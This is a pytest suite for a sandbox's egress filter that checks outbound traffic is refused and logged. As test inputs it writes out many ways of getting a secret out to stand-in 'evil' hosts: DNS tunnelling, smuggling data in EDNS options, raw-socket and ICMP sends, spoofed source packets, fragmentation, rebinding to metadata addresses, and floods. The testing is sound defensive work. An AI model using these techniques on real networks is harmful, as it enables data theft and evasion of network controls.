"""Getting something out of a sandbox whose policy allows one name, as root inside, with every capability that its
network namespace gives. The world beyond writes down whatever arrives; at the end it must have nothing of ours.
And each attempt is found in the log of the sidecar."""

import contextlib
import json
import os
import sys
import time

import pytest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "support"))
import egressnet  # noqa: E402
from egressnet import EVIL, EVIL6, GOOD, INTERNAL, METADATA, OTHER_DNS, RESOLVER  # noqa: E402

SECRET = "s3cr3t"


@contextlib.contextmanager
def new_net(*allowed):
    if os.geteuid() != 0:
        pytest.skip("network namespaces need root")
    n = egressnet.Net()
    try:
        n.start({"defaultAction": "deny", "egress": [{"action": "allow", "target": t} for t in allowed]})
        yield n
    finally:
        n.close()


@pytest.fixture(scope="module")
def short_lived():
    """Another one, whose sandbox asked for a name of a short life. Before everything else, so that the life of the address passes
    while other tests run."""
    with new_net("*.good.test") as n:
        assert n.lookup("short.good.test")["answers"] == [GOOD] and n.connect(GOOD) == "ok"
        yield n


@pytest.fixture(scope="module")
def net(short_lived):
    with new_net("good.test", "*.good.test") as n:
        yield n


@pytest.fixture(autouse=True)
def nothing_arrives(net):
    """Whatever a test tries, the addresses that are not allowed see nothing."""
    at = len(net.world_log())
    yield
    for line in net.world_log()[at:].splitlines():
        words = line.split()
        assert not (words[0].startswith("tcp") and words[1] != GOOD and words[1] != "2001:db8:100::10"), line
        assert words[0] not in ("udp", "ping"), line
        assert SECRET.encode().hex() not in line, line


def refused(net):
    """Names; packets come a moment later and would be counted in another test."""
    events = net.api("GET", "/events").json()
    return events["total"] - events["packets"]


def logged(net, target, kind="packet"):
    """How many lines of the log tell of it: one each, or one for all of the same second."""
    lines = [json.loads(line) for line in net.log().splitlines() if "egress.denied" in line and line.endswith("}")]
    return sum(e["kind"] == kind and e["target.host"] == target for e in lines)


class attempt:
    """with attempt(net, target...): each of them is refused inside, and logged."""

    def __init__(self, net, *targets, kind="packet"):
        self.net, self.targets, self.kind = net, targets, kind

    def __enter__(self):
        self.before = [logged(self.net, t, self.kind) for t in self.targets]

    def __exit__(self, why, *_):
        for t, n in zip(self.targets, self.before):
            if why is None:
                egressnet.wait_for(f"{self.kind} {t} in the log", lambda: logged(self.net, t, self.kind) > n)


def at(ip, port, proto="tcp"):
    return f"[{ip}]:{port}/{proto}" if ":" in ip else f"{ip}:{port}/{proto}"


def dropped(net):
    """Packets that ended in the chain that refuses."""
    text = net.inside(net.gateway, "nft", "list", "chain", "inet", "opensandbox", "refuse").stdout
    return int(text.split("counter packets ")[1].split()[0])


@pytest.mark.parametrize("name", [f"{SECRET}.evil.test", f"{SECRET}.example", ".".join([SECRET * 9] * 4), f"{'a' * 63}.{'b' * 63}.{SECRET}.test",
                                  ".".join(SECRET) + ".evil.test", f"{SECRET}.good.test.evil.test", f"{SECRET}xgood.test"])
@pytest.mark.parametrize("rtype", ["A", "TXT", "NULL", "MX"])
def test_dns_tunnel_through_denied_zones(net, name, rtype):
    before = refused(net)
    with attempt(net, name.lower(), kind="name"):
        for tcp in (False, True):
            assert net.lookup(name, rtype, tcp=tcp)["rcode"] == "NXDOMAIN"
    assert refused(net) == before + 2
    assert not net.asked(name)


@pytest.mark.parametrize("name,rtype", [(".".join([SECRET * 10] * 3) + ".good.test", "A"), (f"{SECRET}.good.test", "NULL"),
                                        (f"{SECRET}.good.test", 65280), (".".join("abcdefghijklmnop") + ".good.test", "TXT")])
def test_dns_tunnel_through_an_allowed_zone(net, name, rtype):
    before = refused(net)
    assert net.lookup(name, rtype)["rcode"] in ("NXDOMAIN", "REFUSED")
    assert refused(net) == before + 1 and not net.asked(name)
    egressnet.wait_for("a line in the log", lambda: any(logged(net, name, kind) for kind in ("name", "type")))


def test_options_and_extra_records_of_a_query_stay_here(net):
    option = SECRET.encode()
    opt = b"\0\0\x29\x04\xd0\0\0\0\0" + (len(option) + 4).to_bytes(2, "big") + b"\xfd\xe9" + len(option).to_bytes(2, "big") + option
    query = b"\x77\x77\x01\0\0\1\0\0\0\0\0\1\x06option\x04good\x04test\0\0\1\0\1" + opt
    assert net.py(f"exchange(bytes.fromhex({query.hex()!r}), {RESOLVER!r}) is not None")
    with open(net.dns_log) as f:
        assert SECRET not in f.read()


def test_a_flood_of_fresh_names_is_slowed_down(net):
    got = net.py("[i for i in range(900) if lookup(f'flood{i}.good.test')['rcode'] == 'REFUSED']")
    assert got
    egressnet.wait_for("a line in the log", lambda: logged(net, f"flood{got[0]}.good.test", "rate"))


@pytest.mark.parametrize("server", [OTHER_DNS, "192.0.2.53", "2001:db8:dead::53", "10.201.0.1"])
def test_other_name_servers_are_us(net, server):
    with attempt(net, f"{SECRET}.evil.test", kind="name"):
        assert net.lookup(f"{SECRET}.evil.test", server=server)["rcode"] == "NXDOMAIN"
    assert not net.asked(f"{SECRET}.evil.test")


@pytest.mark.parametrize("ip,port,proto", [
    (EVIL, 80, "tcp"), (EVIL, 443, "tcp"), (EVIL, 9999, "tcp"), (EVIL, 9999, "udp"), (EVIL6, 80, "tcp"), (EVIL6, 9999, "udp"),
    (OTHER_DNS, 853, "tcp"), (OTHER_DNS, 853, "udp"), (OTHER_DNS, 443, "tcp"), (OTHER_DNS, 5353, "udp"), (EVIL, 443, "udp"), (EVIL6, 443, "udp"),
    (INTERNAL, 80, "tcp"), (METADATA, 80, "tcp"), (RESOLVER, 80, "tcp"), ("203.0.113.2", 18080, "tcp"), ("10.201.0.1", 18080, "tcp"),
    ("10.201.0.1", 18081, "tcp"), ("fd00:201::1", 18080, "tcp")])
def test_addresses_ports_and_protocols(net, ip, port, proto):
    before = dropped(net)
    with attempt(net, at(ip, port, proto)):
        assert net.connect(ip, port, proto) not in ("ok", "timeout")
    assert dropped(net) > before


def test_quic_and_dot_to_an_address_that_is_allowed(net):
    assert net.lookup("good.test")["answers"] == [GOOD]
    assert net.connect(GOOD, 80) == "ok"
    for port, proto in ((443, "udp"), (853, "tcp"), (853, "udp")):
        with attempt(net, at(GOOD, port, proto)):
            assert net.connect(GOOD, port, proto) != "ok"


@pytest.mark.parametrize("name", ["rebind.good.test", "meta.good.test"])
def test_rebinding(net, name):
    with attempt(net, name, kind="rebinding"):
        assert net.lookup(name)["rcode"] == "NXDOMAIN"
    address = INTERNAL if "rebind" in name else METADATA
    with attempt(net, at(address, 80)):
        assert net.connect(address) != "ok"


def test_ping_and_raw_packets(net):
    before = dropped(net)
    with attempt(net, f"{EVIL}/icmp", kind="invalid"):  # a wrong checksum: not even judged
        net.py(f"ping({EVIL!r}, {SECRET!r}, spoil=True)")
    with attempt(net, f"{EVIL}/icmp", f"{EVIL6}/icmpv6"):
        net.py(f"[ping({EVIL!r}, {SECRET!r}), ping({EVIL6!r}, {SECRET!r})]")
    with attempt(net, f"{EVIL}/253", f"{EVIL6}/253"):
        net.py(f"[socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto({SECRET!r}.encode(), ({EVIL!r}, 0))]")
        net.py(f"[socket.socket(socket.AF_INET6, socket.SOCK_RAW, 253).sendto({SECRET!r}.encode(), ({EVIL6!r}, 0))]")
    assert dropped(net) >= before + 4


def test_marks_change_nothing(net):
    for mark in (1, 2, 0x7fffffff):
        with attempt(net, at(EVIL, 80)):
            got = net.py(f"(lambda s: [s.setsockopt(socket.SOL_SOCKET, 36, {mark}), s.settimeout(5), s.connect_ex(({EVIL!r}, 80))][2])"
                         "(socket.socket())")
        assert got != 0


@pytest.mark.parametrize("ip", [EVIL, EVIL6])
def test_fragments_are_judged_as_a_whole(net, ip):
    before = dropped(net)
    with attempt(net, at(ip, 9999, "udp")):
        net.py(f"(lambda s: s.sendto(({SECRET!r} * 700).encode(), ({ip!r}, 9999)))(socket.socket(family({ip!r}), socket.SOCK_DGRAM))")
    assert dropped(net) > before


def test_forged_senders_and_malformed_packets(net):
    """Another source address, on the wire itself."""
    for source in ("203.0.113.2", "198.51.100.10", "127.0.0.1"):
        with attempt(net, at(EVIL, 9999, "udp")):
            net.py(f"""[(lambda s: [s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1), s.sendto(struct.pack('>BBHHHBBH4s4s', 0x45, 0, 40, 7, 0,
               64, 17, 0, socket.inet_aton({source!r}), socket.inet_aton({EVIL!r})) + struct.pack('>HHHH', 53, 9999, 20, 0) +
               {SECRET!r}.encode() + b'      ', ({EVIL!r}, 0))] and 0)(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
               ]""".replace("\n", " "))
    assert f"from {source}" in net.log()


def test_a_flood_hides_nothing(net):
    """Ten thousand packets to one place are a number, and one packet to another in between is still told."""
    before = net.api("GET", "/events").json()["packets"]
    with attempt(net, at(EVIL6, 7777, "udp"), at(EVIL, 9999, "udp")):
        net.py(f"""[(lambda a, b: [a.sendto(b'x', ({EVIL!r}, 9999)) if i != 7000 else b.sendto(b'x', ({EVIL6!r}, 7777)) for i in range(10000)] and 0)
               (socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))]""".replace("\n", " "))
    egressnet.wait_for("all of them", lambda: net.api("GET", "/events").json()["packets"] >= before + 10000)
    assert "more was refused than is listed" in net.log()


def test_an_address_is_forgotten_with_its_name(net):
    assert net.lookup("good.test")["answers"] == [GOOD] and net.connect(GOOD) == "ok"
    net.policy("+other.test")
    with attempt(net, at(GOOD, 80)):
        assert net.connect(GOOD) != "ok"
    net.policy("+good.test", "+*.good.test")
    assert net.connect(GOOD) != "ok"  # not asked for again yet
    assert net.lookup("good.test")["answers"] == [GOOD] and net.connect(GOOD) == "ok"


def test_an_address_is_forgotten_in_time(short_lived):
    """Its record lives for a second, and the address a minute longer, for clients that were slow."""
    egressnet.wait_for("its end", lambda: short_lived.connect(GOOD) != "ok" or time.sleep(1), timeout=180)
    with attempt(short_lived, at(GOOD, 80)):
        assert short_lived.connect(GOOD) != "ok"
    assert short_lived.lookup("short.good.test")["answers"] == [GOOD] and short_lived.connect(GOOD) == "ok"
